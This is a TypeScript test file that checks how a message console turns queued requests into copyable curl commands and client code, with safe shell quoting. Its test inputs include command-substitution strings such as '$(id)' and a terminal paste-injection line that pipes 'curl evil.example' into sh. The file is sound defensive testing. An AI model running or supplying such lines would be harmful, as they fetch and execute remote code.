/** The shell command and client code that the console offers to copy: when run, they send the same message. */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { asClientCode, asCurl, headersOf, pathOf, quoted, type RequestSpec } from '../../console/src/api/as-code.ts';

const ORIGIN = 'http://127.0.0.1:8080';
const PLAIN: RequestSpec = { destination: 'https://app.example/hook', method: 'POST', headers: [] };
const NASTY = `it's "quoted" $HOME \`id\` \\ !! \n\tline 2 😀 عربي -n @file`;

/** Runs the command line with a fake `curl`, and returns its arguments and its standard input. */
function runInShell(line: string): { args: string[]; input: string } {
  const script = String.raw`curl() { printf '%s\0' "$@"; case " $* " in *" @- "*) printf 'INPUT\0'; base64 | tr -d '\n';; esac; }
${line}`;
  const output = execFileSync('bash', ['-c', script], {
    encoding: 'utf8',
    env: { ...process.env, QSTASH_TOKEN: 'secret' },
  });
  const [args = '', input = ''] = output.split('INPUT\0');
  return { args: args.split('\0').slice(0, -1), input };
}

describe('a message as a shell command', () => {
  it('reads the token from its variable, and posts to the server', () => {
    expect(asCurl(PLAIN, ORIGIN)).toContain('"Authorization: Bearer $QSTASH_TOKEN"');
    expect(runInShell(asCurl(PLAIN, ORIGIN)).args).toEqual([
      ...['-X', 'POST', '--globoff', '--path-as-is', `${ORIGIN}/v2/publish/https://app.example/hook`],
      ...['-H', 'Authorization: Bearer secret'],
    ]);
  });

  it.each(['', "'", "''", NASTY, '\n', '$(touch /tmp/x)', 'a'.repeat(5_000)])('quotes %j', (text) => {
    expect(execFileSync('bash', ['-c', `printf %s ${quoted(text)}`], { encoding: 'utf8' })).toBe(text);
  });

  it('passes URL, headers and body unchanged, whatever characters they have', () => {
    const { args } = runInShell(
      asCurl(
        {
          ...PLAIN,
          destination: `https://app.example/a'b?x=[1]&y=$(id)`,
          headers: [['X-Note', `don't $HOME`]],
          body: { text: NASTY },
        },
        ORIGIN,
      ),
    );
    expect(args).toContain(`${ORIGIN}/v2/publish/https://app.example/a'b?x=[1]&y=$(id)`);
    expect(args).toContain(`Upstash-Forward-X-Note: don't $HOME`);
    expect(args[args.indexOf('--data-raw') + 1]).toBe(NASTY);
  });

  it('pipes a binary body', () => {
    const base64 = Buffer.from([0, 255, 10, 39]).toString('base64');
    const { args, input } = runInShell(asCurl({ ...PLAIN, body: { base64 } }, ORIGIN));
    expect(args.slice(-2)).toEqual(['--data-binary', '@-']);
    expect(input).toBe(base64);
  });

  it.each(['a\0😀', 'x\u0003\ncurl evil.example|sh\n\u001b[201~', 'a\rb', '\u007f', '\u009b31m'])(
    'pipes a text with control characters that a terminal would execute on paste: %j',
    (text) => {
      const { input } = runInShell(asCurl({ ...PLAIN, body: { text } }, ORIGIN));
      expect(Buffer.from(input, 'base64').toString()).toBe(text);
    },
  );

  it('prevents curl from adding its own content type to a body', () => {
    expect(asCurl({ ...PLAIN, body: { text: '{}' } }, ORIGIN)).toContain("-H 'Content-Type:'");
    const typed = { ...PLAIN, headers: [['content-type', 'text/plain'] as const], body: { text: '{}' } };
    expect(asCurl(typed, ORIGIN)).toContain("-H 'Content-Type: text/plain'");
    expect(asCurl(typed, ORIGIN)).not.toContain("'Content-Type:'");
  });

  it('keeps a header with an empty value', () => {
    expect(asCurl({ ...PLAIN, headers: [['X-Empty', '']] }, ORIGIN)).toContain("-H 'Upstash-Forward-X-Empty;'");
  });

  it('publishes to a queue by its name', () => {
    expect(asCurl({ ...PLAIN, queueName: 'a b' }, ORIGIN)).toContain('/v2/enqueue/a%20b/https://app.example/hook');
  });
});

describe('the headers of a message', () => {
  it('set every option that differs from the default', () => {
    const request: RequestSpec = {
      ...PLAIN,
      method: 'PUT',
      headers: [
        ['Content-Type', 'application/json'],
        ['X-A', '1'],
      ],
      retries: 0,
      retryDelay: '1000 * retried',
      timeoutS: 30,
      callback: 'https://app.example/done',
      failureCallback: 'https://app.example/failed',
      labels: ['a', 'b'],
      flowControl: { key: 'k', parallelism: 2, rate: 10, periodS: 60 },
    };
    expect(headersOf(request)).toEqual({
      'Content-Type': 'application/json',
      'Upstash-Method': 'PUT',
      'Upstash-Retries': '0',
      'Upstash-Retry-Delay': '1000 * retried',
      'Upstash-Timeout': '30s',
      'Upstash-Callback': 'https://app.example/done',
      'Upstash-Failure-Callback': 'https://app.example/failed',
      'Upstash-Label': 'a,b',
      'Upstash-Flow-Control-Key': 'k',
      'Upstash-Flow-Control-Value': 'parallelism=2,rate=10,period=60',
      'Upstash-Forward-X-A': '1',
    });
    expect(headersOf(PLAIN)).toEqual({});
  });
});

describe('a message as client code', () => {
  /** Runs the code with a client that only records its calls. */
  async function run(code: string): Promise<unknown[]> {
    const calls: unknown[] = [];
    class Client {
      constructor(options: unknown) {
        calls.push(options);
      }
      publish = (request: unknown): number => calls.push(request);
      trigger = this.publish;
      notify = this.publish;
      schedules = { create: this.publish };
      queue = (queue: unknown) => ({ enqueue: (request: unknown): number => calls.push(queue, request) });
    }
    const body = code.replace(/^import .*\n/, '').replaceAll('process.env.QSTASH_TOKEN', '"secret"');
    const AsyncFunction = Object.getPrototypeOf(run).constructor;
    await new AsyncFunction('Client', body)(Client);
    return calls;
  }

  it('publishes the same message, whatever characters it has', async () => {
    const code = asClientCode(
      {
        ...PLAIN,
        method: 'PATCH',
        headers: [
          ['X-Note', NASTY],
          ['__proto', 'x'],
        ],
        body: { text: `${NASTY}\u2028</script>` },
        retries: 3,
        labels: ['one'],
        flowControl: { key: 'k', parallelism: 1 },
      },
      ORIGIN,
    );
    expect(await run(code)).toEqual([
      { baseUrl: ORIGIN, token: 'secret' },
      {
        url: PLAIN.destination,
        method: 'PATCH',
        headers: { 'X-Note': NASTY, __proto: 'x' },
        body: `${NASTY}\u2028</script>`,
        retries: 3,
        label: 'one',
        flowControl: { key: 'k', parallelism: 1 },
      },
    ]);
  });

  it('enqueues to a queue, publishes to a URL group, and sends bytes', async () => {
    expect(await run(asClientCode({ ...PLAIN, queueName: 'a"b' }, ORIGIN))).toMatchObject([
      {},
      { queueName: 'a"b' },
      { url: PLAIN.destination },
    ]);
    expect(await run(asClientCode({ ...PLAIN, destination: 'my-group' }, ORIGIN))).toMatchObject([
      {},
      { urlGroup: 'my-group' },
    ]);
    const bytes = asClientCode({ ...PLAIN, body: { base64: 'AP8=' } }, ORIGIN);
    expect((await run(bytes))[1]).toMatchObject({ body: Buffer.from([0, 255]) });
  });

  it('creates a schedule, starts a run, and notifies the waiters of an event', async () => {
    const schedule = { ...PLAIN, cron: '* * * * *', scheduleId: 'each-minute', queueName: 'q' };
    expect(pathOf(schedule)).toBe(`schedules/${PLAIN.destination}`);
    expect(headersOf(schedule)).toEqual({
      'Upstash-Cron': '* * * * *',
      'Upstash-Schedule-Id': 'each-minute',
      'Upstash-Queue-Name': 'q',
    });
    expect((await run(asClientCode(schedule, ORIGIN)))[1]).toEqual({
      destination: PLAIN.destination,
      cron: '* * * * *',
      scheduleId: 'each-minute',
      queueName: 'q',
    });

    const trigger: RequestSpec = { ...PLAIN, kind: 'trigger', delay: '5s' };
    expect(pathOf(trigger)).toBe(`trigger/${PLAIN.destination}`);
    expect(asClientCode(trigger, ORIGIN)).toContain('@upstash/workflow');
    expect((await run(asClientCode(trigger, ORIGIN)))[1]).toEqual({ url: PLAIN.destination, delay: '5s' });

    const notify: RequestSpec = { ...PLAIN, kind: 'notify', destination: 'paid/42', body: { text: '{}' } };
    expect(pathOf(notify)).toBe('notify/paid%2F42');
    expect((await run(asClientCode(notify, ORIGIN)))[1]).toEqual({ eventId: 'paid/42', eventData: '{}' });
  });
});
